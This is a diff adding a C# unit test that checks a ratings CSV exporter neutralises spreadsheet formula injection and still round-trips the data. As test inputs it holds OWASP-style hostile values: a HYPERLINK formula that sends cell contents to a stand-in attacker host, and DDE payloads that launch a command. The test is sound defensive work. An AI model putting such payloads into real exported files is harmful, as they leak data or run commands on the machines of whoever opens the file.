@@ -52,6 +52,37 @@ public sealed class RatingsCsvTests
     }
 
     [Fact]
+    public void Text_a_spreadsheet_would_run_is_written_inert_and_reads_back_as_it_was()
+    {
+        // Evidence, names and a rationale as a partner or an attacker might type them (OWASP's CSV injection examples).
+        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "-2.5"];
+        var builder = AssessmentBuilder
+            .For(Frameworks.ShiftingTheCentreOfGravity2018, new Footprint("E09000008", "=Croydon", Level.Place, 386_710, "+QWE"), new LocalDate(2018, 10, 1))
+            .WithAssessor("council", "@Croydon Council", PartnerKind.Council);
+        string[] items = ["TRA.1", "TRA.2", "TRA.3", "TRA.4", "TRA.5", "TRA.6", "TRA.7", "PCC.1"];
+        foreach (var (item, evidence) in items.Zip(hostile))
+        {
+            builder = builder.Rate(item, "council", Progress.InPlace, evidence: evidence);
+        }
+
+        var assessment = builder.Build();
+        var csv = RatingsCsv.Serialize(assessment);
+        var (records, error, _) = Csv.Parse(csv);
+
+        Assert.Null(error);
+        Assert.All(records.SelectMany(r => r.Fields), field => Assert.False(
+            field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal) && !double.TryParse(field, System.Globalization.CultureInfo.InvariantCulture, out _),
+            $"'{field}' would run as a formula"));
+        Assert.Contains("'=HYPERLINK(", csv, StringComparison.Ordinal);
+        Assert.Contains(",-2.5\r\n", csv, StringComparison.Ordinal);
+        var read = RatingsCsv.Parse(csv);
+        Assert.Empty(read.Problems);
+        Assert.Equal(assessment, read.Value);
+        Assert.Equal(items.Zip(hostile).ToDictionary(p => p.First, p => (string?)p.Second), read.Value!.Ratings.ToDictionary(r => r.ItemId, r => r.Evidence));
+        Assert.Equal(("=Croydon", "+QWE", "@Croydon Council"), (read.Value.Footprint.Name, read.Value.Footprint.ParentCode, read.Value.Assessors[0].Name));
+    }
+
+    [Fact]
     public void Problems_point_at_the_line_and_column()
     {
         var csv = RatingsCsv.Serialize(Croydon)
